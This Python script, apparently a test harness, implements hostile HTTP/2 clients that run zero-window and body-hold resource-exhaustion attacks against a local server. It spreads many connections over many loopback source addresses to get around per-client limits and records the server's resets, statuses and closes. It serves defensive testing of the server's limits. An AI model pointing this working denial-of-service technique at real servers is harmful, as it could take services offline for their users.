#!/usr/bin/env python3
"""Hostile HTTP/2 clients that make a server hold resources (stdlib only): the zero-window and
the body-hold attacks of issue 14, from many connections and many source addresses.

  h2hold.py --port P --mode zero-window|body-hold --path PATH [--conns N] [--streams S]
            [--sources K] [--source-prefix 127.0.1.] [--body BYTES] [--hold SECONDS]
            [--ping 1.0] [--authority localhost] [--connect-timeout 30] [--withhold 0]

Each of N connections (spread over K source addresses PREFIX1 .. PREFIXK, so per-client limits
see K clients; past 254 they go on in the next /24s: with 127.0.1., the 255th is 127.0.2.1, so
--sources 300 spans 127.0.1.1 .. 127.0.2.46): TLS with ALPN h2, the preface, SETTINGS, then S streams on PATH:
- zero-window: SETTINGS_INITIAL_WINDOW_SIZE=0, so no response byte may be sent; S GETs
  (END_STREAM); the windows are never opened.
- body-hold: S POSTs with content-length BYTES, whose body is sent as far as the server's
  flow-control windows allow, never with END_STREAM; --withhold N keeps its last N bytes back
  even when the windows allow them (a server that streams bodies to a backend then holds the
  backend connection waiting for them).
Every connection then sends a PING every --ping seconds (what kept such connections "active"),
acknowledges SETTINGS and PINGs, and records what the server does: HEADERS (:status), RST_STREAM
(by error code), GOAWAY, and the time from the start of the hold until the connection was closed.

Prints "up N" (connections that completed TLS and sent their streams within --connect-timeout
seconds; a server out of descriptors leaves the rest waiting) once all have tried, then
after --hold seconds (or at SIGUSR1) one line of JSON:
  {"conns": N, "closed": C, "close_s": [first, median, last], "resets": R,
   "rst_codes": {"7": ...}, "statuses": {"503": ...}, "goaways": G, "window_granted": W,
   "streams": S*N, "open_streams": O}
(open_streams: streams of connections still open at the end that the server had neither ended
nor reset: what it still held for us)
and exits 0. Lines on stdout only, so that a test can wait for them.
"""
import argparse
import asyncio
import json
import os
import ssl
import signal
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from h2conns import PREFACE, frame, literal  # noqa: E402  (the one HTTP/2 frame writer of the tools)

DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINUP = 0, 1, 3, 4, 6, 7, 8


def header_block(method, path, authority, length=None):
    path = path.encode()
    assert len(path) < 127
    block = (literal(b":method", method) + literal(b":scheme", b"https") +
             literal(b":authority", authority.encode()) + literal(b":path", path))
    if length is not None:
        block += literal(b"content-length", str(length).encode())
    return block


def hpack_int(block, i, bits):
    """RFC 7541 §5.1 integer with a @bits-bit prefix at block[i]: (value, next index)."""
    mask = (1 << bits) - 1
    v = block[i] & mask
    i += 1
    if v < mask:
        return v, i
    m = 0
    while True:
        b = block[i]
        i += 1
        v += (b & 0x7f) << m
        m += 7
        if not b & 0x80:
            return v, i


def hpack_str(block, i):
    """A string literal: (bytes, or None when Huffman-coded, next index)."""
    huff = block[i] & 0x80
    n, i = hpack_int(block, i, 7)
    return (None if huff else bytes(block[i:i + n])), i + n


def status_of(block, table):
    """The :status of a response header block. @table: the connection's HPACK dynamic table
    as a list of (name, value) (value None when Huffman-coded), newest first; kept up to date
    here (only entry counts matter for indices: the tool's runs stay far below its size)."""
    status, i = "?", 0
    try:
        while i < len(block):
            b = block[i]
            if b & 0x80:  # indexed field
                idx, i = hpack_int(block, i, 7)
                if 8 <= idx <= 14:
                    status = ["200", "204", "206", "304", "400", "404", "500"][idx - 8]
                elif idx > 61 and idx - 62 < len(table) and table[idx - 62][0] == b":status":
                    status = (table[idx - 62][1] or b"?").decode(errors="replace")
                continue
            if b & 0xe0 == 0x20:  # dynamic table size update
                _, i = hpack_int(block, i, 5)
                continue
            indexing = b & 0xc0 == 0x40
            idx, i = hpack_int(block, i, 6 if indexing else 4)
            if idx == 0:
                name, i = hpack_str(block, i)
            elif 8 <= idx <= 14:
                name = b":status"
            elif idx > 61 and idx - 62 < len(table):
                name = table[idx - 62][0]
            else:
                name = b"?"
            value, i = hpack_str(block, i)
            if name == b":status":
                status = (value or b"?").decode(errors="replace")
            if indexing:
                table.insert(0, (name, value))
    except IndexError:
        pass
    return status


class Conn:
    def __init__(self, i, args, stats):
        self.i, self.args, self.stats = i, args, stats
        self.closed_at = None
        self.live = set()  # streams neither ended by the server (END_STREAM) nor reset
        self.conn_window = 65535
        self.stream_window = {}
        self.sent = {}
        self.writer = None
        self.hpack = []  # the server's HPACK dynamic table, as status_of() tracks it

    async def open(self, ctx):
        a = self.args
        src = source_address(a.source_prefix, self.i % a.sources)
        self.reader, self.writer = await asyncio.wait_for(
            asyncio.open_connection("127.0.0.1", a.port, ssl=ctx, server_hostname="localhost",
                                    local_addr=(src, 0)), a.connect_timeout)
        settings = b""
        if a.mode == "zero-window":
            settings = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE = 0
        out = PREFACE + frame(SETTINGS, 0, 0, settings)
        for k in range(a.streams):
            sid = 1 + 2 * k
            self.live.add(sid)
            if a.mode == "zero-window":
                out += frame(HEADERS, 0x5, sid, header_block(b"GET", a.path, a.authority))
            else:
                out += frame(HEADERS, 0x4, sid, header_block(b"POST", a.path, a.authority, a.body))
                self.sent[sid] = 0
        self.writer.write(out)
        await self.writer.drain()

    def send_body(self):
        """body-hold: as much of each body as the windows allow, never END_STREAM."""
        if self.args.mode != "body-hold":
            return
        out = []  # joined once: += on bytes copies the whole buffer per frame
        for sid in sorted(self.sent):
            left = self.args.body - self.args.withhold - self.sent[sid]
            win = min(self.conn_window, self.stream_window.get(sid, self.peer_initial), left, 16384)
            while win > 0 and left > 0:
                out.append(frame(DATA, 0, sid, b"x" * win))
                self.sent[sid] += win
                self.conn_window -= win
                self.stream_window[sid] = self.stream_window.get(sid, self.peer_initial) - win
                left -= win
                win = min(self.conn_window, self.stream_window[sid], left, 16384)
        if out:
            self.writer.write(b"".join(out))

    async def run(self, t0):
        s = self.stats
        self.peer_initial = 65535
        pinger = asyncio.ensure_future(self.pings())
        try:
            while True:
                hdr = await self.reader.readexactly(9)
                length = int.from_bytes(hdr[:3], "big")
                ftype, flags, sid = hdr[3], hdr[4], struct.unpack(">I", hdr[5:9])[0] & 0x7fffffff
                payload = await self.reader.readexactly(length)
                if ftype in (HEADERS, DATA) and flags & 1 or ftype == RST:  # END_STREAM
                    self.live.discard(sid)
                if ftype == SETTINGS and not flags & 1:
                    for off in range(0, len(payload) - 5, 6):
                        ident, val = struct.unpack(">HI", payload[off:off + 6])
                        if ident == 4:
                            self.peer_initial = val
                    self.writer.write(frame(SETTINGS, 1, 0))
                    self.send_body()
                elif ftype == PING and not flags & 1:
                    self.writer.write(frame(PING, 1, 0, payload))
                elif ftype == WINUP:
                    inc = struct.unpack(">I", payload[:4])[0] & 0x7fffffff
                    s["window_granted"] += inc
                    if sid == 0:
                        self.conn_window += inc
                    else:
                        self.stream_window[sid] = self.stream_window.get(sid, self.peer_initial) + inc
                    self.send_body()
                elif ftype == HEADERS:
                    if flags & 0x8:  # PADDED
                        payload = payload[1:len(payload) - payload[0]]
                    if flags & 0x20:  # PRIORITY
                        payload = payload[5:]
                    st = status_of(payload, self.hpack)
                    s["statuses"][st] = s["statuses"].get(st, 0) + 1
                    self.sent.pop(sid, None)
                elif ftype == RST:
                    code = str(struct.unpack(">I", payload[:4])[0])
                    s["rst_codes"][code] = s["rst_codes"].get(code, 0) + 1
                    s["resets"] += 1
                    self.sent.pop(sid, None)
                elif ftype == GOAWAY:
                    s["goaways"] += 1
        except (asyncio.IncompleteReadError, ConnectionError, ssl.SSLError, OSError):
            self.closed_at = time.monotonic() - t0
        finally:
            pinger.cancel()

    async def pings(self):
        n = 0
        while True:
            await asyncio.sleep(self.args.ping)
            n += 1
            try:
                self.writer.write(frame(PING, 0, 0, struct.pack(">Q", n)))
            except Exception:
                return


def source_address(prefix, k):
    """The k-th (0-based) client address: PREFIX1 .. PREFIX254, then on into the next /24s
    (hosts .1 .. .254 of each, never .0 or .255), so that hundreds of clients fit in 127/8."""
    parts = prefix.rstrip(".").split(".")
    if len(parts) != 3:
        raise ValueError("--source-prefix must be three octets and a dot, e.g. 127.0.1.")
    a, b, c = (int(x) for x in parts)
    n = (b << 8 | c) + k // 254
    if n > 0xffff:
        raise ValueError("too many sources for prefix %s" % prefix)
    return "%d.%d.%d.%d" % (a, n >> 8, n & 0xff, 1 + k % 254)


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--mode", choices=["zero-window", "body-hold"], required=True)
    ap.add_argument("--path", required=True)
    ap.add_argument("--conns", type=int, default=1)
    ap.add_argument("--streams", type=int, default=100)
    ap.add_argument("--sources", type=int, default=1)
    ap.add_argument("--source-prefix", default="127.0.1.")
    ap.add_argument("--body", type=int, default=1 << 20)
    ap.add_argument("--hold", type=float, default=10)
    ap.add_argument("--ping", type=float, default=1.0)
    ap.add_argument("--authority", default="localhost")
    ap.add_argument("--connect-timeout", type=float, default=30)
    ap.add_argument("--withhold", type=int, default=0)
    args = ap.parse_args()
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    stats = {"conns": 0, "resets": 0, "rst_codes": {}, "statuses": {}, "goaways": 0,
             "window_granted": 0}
    conns = []
    batch = 100  # handshakes in flight at once
    for start in range(0, args.conns, batch):
        group = [Conn(i, args, stats) for i in range(start, min(start + batch, args.conns))]
        got = await asyncio.gather(*(c.open(ctx) for c in group), return_exceptions=True)
        conns.extend(c for c, r in zip(group, got) if not isinstance(r, Exception))
    stats["conns"] = len(conns)
    print("up %d" % len(conns), flush=True)
    t0 = time.monotonic()
    tasks = [asyncio.ensure_future(c.run(t0)) for c in conns]
    # SIGUSR1 ends the hold early (a test that waits for an effect, not for a fixed time)
    done = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGUSR1, done.set)
    try:
        await asyncio.wait_for(done.wait(), args.hold)
    except asyncio.TimeoutError:
        pass
    for c in conns:
        try:
            c.writer.close()
        except Exception:
            pass
    for t in tasks:
        t.cancel()
    closes = sorted(c.closed_at for c in conns if c.closed_at is not None)
    stats["closed"] = len(closes)
    stats["streams"] = args.streams * len(conns)
    stats["open_streams"] = sum(len(c.live) for c in conns if c.closed_at is None)
    stats["close_s"] = ([round(closes[0], 2), round(closes[len(closes) // 2], 2),
                         round(closes[-1], 2)] if closes else [])
    print(json.dumps(stats, sort_keys=True), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
